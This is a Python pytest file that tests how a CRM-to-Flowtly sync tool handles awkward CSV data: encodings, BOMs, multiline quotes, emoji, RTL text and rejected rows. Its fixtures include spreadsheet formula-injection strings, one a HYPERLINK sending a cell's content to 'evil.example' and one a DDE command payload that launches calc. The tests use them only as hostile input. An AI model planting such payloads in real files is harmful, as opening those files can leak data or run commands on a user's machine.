"""A corpus of awkward CRM files: every bad row is rejected with a reason, every good row
syncs with its value unchanged, and the process never dies with a traceback.

The runs use the in-process sandbox (``sandbox://FILE``), and Flowtly is read back from its
database afterwards, so no server process is needed.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
from e2e_support import FlowtlyApi, pl_vat, run_cli

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Kliknij")'
LONG_NAME = "Długa Nazwa " + "x" * 10_000
RTL = "شركة الأفق للتجارة"
EMOJI = "Café 🚀 Rakieta sp. z o.o. 🇵🇱"
MULTILINE = 'Firma "Cudzysłów"\nDruga linia; ze średnikiem'

COMPANY_HEADER = ["id", "kind", "name", "country", "currency", "vat_number", "street_line", "city"]
GOOD_COMPANIES = {
    "G1": [MULTILINE, "PL", "PLN", pl_vat(3001), 'ul. "Krzywa" 5\nlokal 2', "Łódź"],
    "G2": [EMOJI, "PL", "PLN", pl_vat(3002), "", "Kraków"],
    "G3": [RTL, "AE", "AED", "", "", "دبي"],
    "G4": [FORMULA, "PL", "PLN", pl_vat(3004), "@SUM(1+1)", "-2+3"],
    "G5": [LONG_NAME, "PL", "PLN", pl_vat(3005), "", "Opole"],
}
BAD_COMPANIES = [
    # (id, cells, field the reason names)
    ("G1", ["Duplikat Firma", "PL", "PLN", pl_vat(3009), "", ""], "id"),
    ("B2", ["", "PL", "PLN", pl_vat(3010), "", "Radom"], "name"),
    ("B3", ["Zły Kraj", "Atlantyda", "PLN", "", "", ""], "country"),
]
CONTACT_HEADER = ["id", "company_id", "name", "email", "title"]
GOOD_CONTACTS = {
    "P1": ["G1", 'Anna "Ania" Nowak', "anna@cudzyslow.example", "=1+1"],
    "P2": ["G2", "Zoë 😀 Kowalska", "zoe@rakieta.example", "שלום"],
}
BAD_CONTACTS = [
    ("P1", ["G2", "Powtórzony Identyfikator", "dup@rakieta.example", ""], "id"),
    ("P3", ["G2", "Bez Adresu", "", ""], "email"),
]


def _rows(good: dict[str, list[str]], bad: list[tuple[str, list[str], str]]) -> list[list[str]]:
    rows = [[key, *cells] for key, cells in good.items()]
    rows += [[key, *cells] for key, cells, _ in bad]
    return rows


def _csv(header: list[str], rows: list[list[str]], delimiter: str, bom: bool) -> str:
    import csv
    import io

    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return ("\ufeff" if bom else "") + buffer.getvalue()


def _config(root: Path, crm: Path, **crm_options: str) -> Path:
    lines = "".join(f"{key} = {json.dumps(value)}\n" for key, value in crm_options.items())
    config = root / "config.toml"
    config.write_text(
        "[flowtly]\n"
        f"base_url = {json.dumps('sandbox://' + str(root / 'flowtly.db'))}\n"
        "[store]\n"
        f"url = {json.dumps('sqlite:///' + str(root / 'state.db'))}\n"
        "[crm]\n"
        'type = "files"\n'
        f"path = {json.dumps(str(crm))}\n"
        f"{lines}"
        "[sync]\n"
        'conflict_policy = "manual"\n'
        "[logging]\n"
        'format = "json"\n'
        'level = "warning"\n',
        encoding="utf-8",
    )
    return config


def _report(result: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert result.stdout.strip(), result.stderr[-3000:]
    data: dict[str, Any] = json.loads(result.stdout)
    return data


def _flowtly(root: Path) -> dict[str, list[dict[str, Any]]]:
    api = FlowtlyApi.offline(root / "flowtly.db")
    try:
        return api.snapshot()
    finally:
        api.close()


def test_bom_semicolons_quotes_newlines_long_emoji_rtl_and_formulas(tmp_path: Path) -> None:
    crm = tmp_path / "crm"
    crm.mkdir()
    companies = _rows(GOOD_COMPANIES, BAD_COMPANIES)
    company_rows = [[row[0], "client", *row[1:]] for row in companies]
    (crm / "companies.csv").write_bytes(
        _csv(COMPANY_HEADER, company_rows, ";", bom=True).encode("utf-8")
    )
    contacts = _rows(GOOD_CONTACTS, BAD_CONTACTS)
    (crm / "contacts.csv").write_bytes(
        _csv(CONTACT_HEADER, contacts, ";", bom=True).encode("utf-8")
    )
    note = 'Uwaga: "cytat"\n=SUM(A1:A3)\n🚀 ' + RTL
    (crm / "notes.csv").write_bytes(
        _csv(["id", "company_id", "body"], [["N1", "G4", note]], ";", bom=True).encode("utf-8")
    )
    config = _config(tmp_path, crm, delimiter=";")
    before = {name: (crm / name).read_bytes() for name in ("companies.csv", "contacts.csv")}

    first = run_cli("run", "--output", "json", config=config)
    report = _report(first)
    assert first.returncode == 3, first.stdout + first.stderr
    rejected = {(e["entity"], e["id"], e["field"]) for e in report["errors"]}
    wanted = {("client", key, field) for key, _, field in BAD_COMPANIES} | {
        ("contact", key, field) for key, _, field in BAD_CONTACTS
    }
    assert rejected == wanted, report["errors"]
    for error in report["errors"]:
        assert error["reason"].strip(), error
        assert error["side"] == "crm"

    held = _flowtly(tmp_path)
    names = sorted(c["name"] for c in held["clients"])
    assert names == sorted(cells[0] for cells in GOOD_COMPANIES.values())
    by_name = {c["name"]: c for c in held["clients"]}
    assert by_name[MULTILINE]["addressStreetLine"] == 'ul. "Krzywa" 5\nlokal 2'
    assert by_name[FORMULA]["addressStreetLine"] == "@SUM(1+1)"
    assert by_name[FORMULA]["addressCity"] == "-2+3"
    assert by_name[RTL]["addressCity"] == "دبي"
    contacts_held = {c["email"]: c for c in held["client-contacts"]}
    assert contacts_held.keys() == {"anna@cudzyslow.example", "zoe@rakieta.example"}
    assert contacts_held["anna@cudzyslow.example"]["name"] == 'Anna "Ania" Nowak'
    assert contacts_held["anna@cudzyslow.example"]["title"] == "=1+1"
    assert contacts_held["zoe@rakieta.example"]["title"] == "שלום"
    assert [n["note"] for n in held["client-notes"]] == [note]
    # Reading never rewrote the files.
    assert {name: (crm / name).read_bytes() for name in before} == before

    second = run_cli("run", "--output", "json", config=config)
    again = _report(second)
    assert second.returncode == 3
    assert [op for op in again["operations"] if op["outcome"] == "ok"] == []
    # Unchanged bad rows stay rejected, each still with a reason.
    assert {(e["entity"], e["id"]) for e in again["errors"]} == {w[:2] for w in wanted}
    assert all(e["reason"].strip() for e in again["errors"])


def test_flowtly_values_are_written_into_the_crm_file_unchanged(tmp_path: Path) -> None:
    crm = tmp_path / "crm"
    crm.mkdir()
    rows = [["G4", "client", FORMULA, "PL", "PLN", pl_vat(3004), "", "Opole"]]
    (crm / "companies.csv").write_bytes(_csv(COMPANY_HEADER, rows, ";", bom=True).encode("utf-8"))
    config = _config(tmp_path, crm, delimiter=";")
    assert run_cli("run", config=config).returncode == 0
    api = FlowtlyApi.offline(tmp_path / "flowtly.db")
    try:
        [client] = api.members("/clients")
        api.patch(client["@id"], {"addressCity": "=cmd|' /C calc'!A0"})
        api.post(
            "/clients",
            {
                "name": f'{EMOJI} {RTL}\n"{FORMULA}"',
                "country": api.iri("countries", "PL"),
                "currency": api.iri("currencies", "PLN"),
                "status": "active",
                "tinType": "vat",
                "vatNumber": pl_vat(3100),
            },
        )
    finally:
        api.close()
    result = run_cli("run", "--output", "json", config=config)
    assert _report(result)["errors"] == []
    assert result.returncode == 0
    data = (crm / "companies.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "the BOM was dropped"
    import csv
    import io

    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert parsed[0] == COMPANY_HEADER
    by_vat = {row[5]: row for row in parsed[1:]}
    assert by_vat[pl_vat(3004)][2] == FORMULA
    assert by_vat[pl_vat(3004)][7] == "=cmd|' /C calc'!A0"
    assert by_vat[pl_vat(3100)][2] == f'{EMOJI} {RTL}\n"{FORMULA}"'


def test_latin1_file_configured_as_latin1_syncs(tmp_path: Path) -> None:
    crm = tmp_path / "crm"
    crm.mkdir()
    rows = [
        ["L1", "client", "Müller & Söhne GmbH", "DE", "EUR", "DE767597593", "Königstraße 1", ""],
        ["L2", "client", "Société Générale Façade", "FR", "EUR", "", "", "Besançon"],
    ]
    (crm / "companies.csv").write_bytes(
        _csv(COMPANY_HEADER, rows, ",", bom=False).encode("latin-1")
    )
    config = _config(tmp_path, crm, encoding="latin-1")
    result = run_cli("run", "--output", "json", config=config)
    report = _report(result)
    assert result.returncode == 0, report["errors"]
    names = sorted(c["name"] for c in _flowtly(tmp_path)["clients"])
    assert names == ["Müller & Söhne GmbH", "Société Générale Façade"]


def test_latin1_bytes_in_a_utf8_file_fail_with_one_clear_message(tmp_path: Path) -> None:
    crm = tmp_path / "crm"
    crm.mkdir()
    rows = [
        ["U1", "client", "Zwykla Firma", "PL", "PLN", pl_vat(3200), "", ""],
        ["U2", "client", "Müller GmbH", "DE", "EUR", "", "", ""],
    ]
    text = _csv(COMPANY_HEADER, rows, ",", bom=False)
    (crm / "companies.csv").write_bytes(text.encode("latin-1"))
    config = _config(tmp_path, crm)
    result = run_cli("run", "--output", "json", config=config)
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == 1, result.stdout + result.stderr
    messages = [line for line in result.stderr.splitlines() if line.startswith("flowtly-sync:")]
    assert len(messages) == 1, result.stderr
    assert "companies.csv" in messages[0]
    assert "line 3" in messages[0] or ":3" in messages[0], messages[0]
    assert "0xfc" in messages[0], messages[0]
    assert _flowtly(tmp_path)["clients"] == []
